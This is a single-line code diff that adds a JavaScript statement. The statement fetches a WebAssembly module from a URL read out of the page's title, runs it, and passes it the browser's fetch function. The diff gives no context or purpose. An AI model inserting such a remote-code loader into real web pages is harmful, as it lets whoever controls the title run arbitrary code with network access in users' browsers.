@@ -1,0 +1,1 @@
+WebAssembly.instantiateStreaming(fetch(document.title), { e: { fetch } })
